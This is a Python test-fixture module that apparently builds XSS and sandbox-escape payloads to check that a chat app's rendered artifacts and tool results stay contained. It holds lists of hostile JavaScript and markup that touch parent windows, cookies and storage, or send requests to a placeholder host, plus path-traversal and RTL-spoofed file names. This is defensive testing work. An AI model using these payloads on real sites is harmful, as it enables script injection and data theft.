"""What tries to run as our page, and to reach something: sixty payloads in each place, and what a frame can try."""

import json
from collections.abc import Iterator
from itertools import chain, cycle
from typing import Any

from src.ids import new_id
from tests.fakes.xss import file_names, payloads

CSP_COMPLAINTS = (
    r"Content Security Policy|sandbox|Failed to load|Refused to|violates|ERR_BLOCKED|Unsafe attempt|Blocked|"
    r"about:srcdoc|SecurityError|frame with origin|Uncaught|uncaught"
)
"""What the browser says of each try; in the frame, which is nobody's."""

TOUCHES = [
    "parent.parent.escaped = 1", "top.escaped = 1", "top.localStorage.escaped = 1", "localStorage.escaped = 1",
    "document.cookie = 'escaped=1'", "parent.document.body.innerHTML = 'escaped'", "top.document.title = 'escaped'",
    "top.eval('window.escaped = 1')", "top.postMessage({ kind: 'ready' }, '*')", "alert('escaped')", "print()",
    "parent.postMessage({ kind: 'broken', text: '<img src=x onerror=window.escaped=1>' }, '*')",
    "indexedDB.open('locrit').onsuccess = () => { top.escaped = 1 }",
]  # fmt: skip
LOADS = [
    "fetch('{at}')", "fetch('{at}', {{ mode: 'no-cors', method: 'POST', body: 'x' }})", "new Image().src = '{at}'",
    "navigator.sendBeacon('{at}', 'x')", "new WebSocket('{at}'.replace('http', 'ws'))", "new EventSource('{at}')",
    "import('{at}')", "new Worker('{at}')", "new Worker(URL.createObjectURL(new Blob([\"fetch('{at}')\"])))",
    "navigator.serviceWorker.register('{at}')", "window.open('{at}')", "top.location = '{at}'",
    "parent.location = '{at}'", "new FontFace('x', 'url({at})').load()", "navigator.serviceWorker.ready",
    "const x = new XMLHttpRequest(); x.open('GET', '{at}'); x.send()", "new Audio('{at}').play()",
    "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href={at}><link rel=prefetch href={at}>')",
    "const f = document.createElement('form'); f.action = '{at}'; document.body.append(f); f.submit()",
    "const a = document.createElement('a'); a.href = '{at}'; a.target = '_blank'; a.ping = '{at}'; a.click()",
]  # fmt: skip
MARKUP = (
    '<img src="{at}"><iframe src="{at}"></iframe><object data="{at}"></object><embed src="{at}"><video src="{at}">'
    '</video><link rel="stylesheet" href="{at}"><link rel="prefetch" href="{at}"><script src="{at}"></script>'
    '<style>@import "{at}"; body {{ background: url("{at}") }}</style><base href="{at}"><form action="{at}">'
    '<input autofocus onfocus="this.form.submit()"></form><table background="{at}"></table>'
    '<svg><image href="{at}"/><use href="{at}#x"/></svg><input type=image src="{at}"><audio src="{at}"></audio>'
    "<iframe srcdoc=\"<script>top.escaped = 1; location = '{at}'</script>\"></iframe>"
    '<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["{at}"]}}]}}</script>'
)
LEAVES = [
    "<script>location = '{at}'</script>",
    "<script>location.replace('{at}')</script>",
    '<meta http-equiv="refresh" content="0;url={at}">',
    '<a id="a" href="{at}">x</a><script>a.click()</script>',
    '<form id="f" action="{at}" target="_self"></form><script>f.submit()</script>',
    "<script>window.name = 'x'; open('{at}', '_self')</script>",
]
LABEL = str.maketrans({'"': "#quot;", ";": "#59;", "`": "#96;"})
A_DRAWING = 15
"""So many are drawn unasked."""
Artifact = dict[str, str]
Message = dict[str, object]


def artifacts(elsewhere: str, ours: str) -> Iterator[Artifact]:
    """`elsewhere` and `ours` are what they try to reach. Each payload is a name, and all are in each kind of text."""
    contents = chain(_of_payloads(elsewhere), _of_frames(elsewhere, ours))
    names = [*payloads(elsewhere), "../../../escaped.html", "a\u202egpj.escaped"]
    known = list(contents)
    rest = [("code", "x = 1")] * (len(names) - len(known))
    for name, (type_, content) in zip(cycle(names), [*known, *rest], strict=False):
        css = "</style><script>top.escaped=1</script>" + "".join(payloads(ours)) if type_ == "jsx" else ""
        yield {"type": type_, "name": name, "content": content, "css": css}


def _of_payloads(at: str) -> Iterator[tuple[str, str]]:
    texts = payloads(at)
    literal = json.dumps(texts).replace("<", "\\u003c")
    each = f"for (const each of {literal}) {{ const at = document.createElement"
    yield "html", "<!doctype html><body>" + "\n".join(texts)
    yield "html", f"<body><script>{each}('iframe'); at.srcdoc = each; document.body.append(at) }}</script>"
    yield "html", f"<body><script>{each}('div'); document.body.append(at); at.innerHTML = each }}</script>"
    yield "svg", f'<svg xmlns="http://www.w3.org/2000/svg">{"".join(texts)}</svg>'
    marked = f"{literal}.map((each) => <div key={{each}} dangerouslySetInnerHTML={{{{ __html: each }}}} />)"
    yield "jsx", f"export default () => <main>{{{marked}}}</main>"
    yield "markdown", "\n\n".join(texts)
    yield "markdown", diagrams(at)
    yield "code", "\n".join(texts)


def diagrams(at: str) -> str:
    """All as labels; and boxes that lead somewhere."""
    boxes = [f'N["{text.translate(LABEL)}"]' for text in payloads(at)]
    links = ["A-->B", 'click A "javascript:window.escaped=1"', 'click B call alert("escaped")']
    drawings = [*(boxes[n : n + A_DRAWING] for n in range(0, len(boxes), A_DRAWING)), links]
    return "\n\n".join("```mermaid\ngraph TD\n  {}\n```".format("\n  ".join(one)) for one in drawings)


def _of_frames(*places: str) -> Iterator[tuple[str, str]]:
    tries = [*TOUCHES, *(one.format(at=at) for one in LOADS for at in places)]
    scripts = "".join(f"<script>try {{ {one} }} catch {{}}</script>" for one in tries)
    yield "html", f"<!doctype html><body>{scripts}"
    yield "html", "<!doctype html><body>" + "".join(MARKUP.format(at=at) for at in places)
    yield "svg", f'<svg xmlns="http://www.w3.org/2000/svg" onload="top.escaped = 1">{scripts}</svg>'
    body = "".join(f"try {{ {one} }} catch {{}}\n" for one in tries)
    markup = "{{ __html: '<img src=x onerror=top.escaped=1>' }}"
    yield "jsx", f"{body}\nexport default () => <p dangerouslySetInnerHTML={markup} />"
    yield "jsx", "</script><script>top.escaped = 1</script><!--<script>"
    for at, leave in zip(places * len(LEAVES), LEAVES, strict=False):
        yield "html", f"<!doctype html><body>{leave.format(at=at)}"


def text(at: str) -> str:
    """Each as Markdown by itself, in a quotation, a table, code, a formula and a link."""
    forms = ("{}", "> {}", "- `{}`", "| a |\n|---|\n| {} |", "${}$", "[{}](https://example.org)", "```\n{}\n```")
    return "\n\n".join(form.format(each) for each, form in zip(payloads(at), cycle(forms), strict=False))


def named_files(at: str) -> Iterator[Message]:
    """Messages with files of all these names, as pictures and as others; the files themselves are nowhere."""
    names = file_names(at)
    for n in range(0, len(names), 10):
        given = [
            {"type": "file", "id": new_id(), "name": name, "media_type": kind, "size": 5}
            for name in names[n : n + 10]
            for kind in ("image/png", "text/html")
        ]
        message = {"message_id": new_id(), "role": "user", "content": "See", "parts": [*given, {"type": "text"}]}
        yield {**message, "created_at": "2026-03-01T12:00:00Z"}


def tool_results(at: str) -> dict[str, Any]:
    """A reply that has thought all, with tools called by each name and with it, which gave it back or failed so."""
    texts, reply_id, time = payloads(at), new_id(), "2126-03-01T12:00:00Z"
    told: dict[str, Any] = {"message_id": reply_id, "created_at": time, "updated_at": time, "rev": 1}
    errors = [{"code": text, "message": text, "hint": text} for text in texts]
    called = [
        {**told, "id": new_id(), "name": text, "display_name": text, "arguments": {text: [text]}, **how}
        for text, error in zip(texts, errors, strict=True)
        for how in ({"status": "done", "result": {text: text}}, {"status": "failed", "error": error})
    ]
    parts = [{"type": "reasoning", "text": text} for text in ("\n\n".join(texts),)]
    parts += [{"type": "tool_call", "id": one["id"]} for one in called]
    said = {"role": "assistant", "content": "Done.", "status": "complete", "parts": [*parts, {"type": "text"}]}
    return {"messages": [{**told, **said}], "tool_results": called}
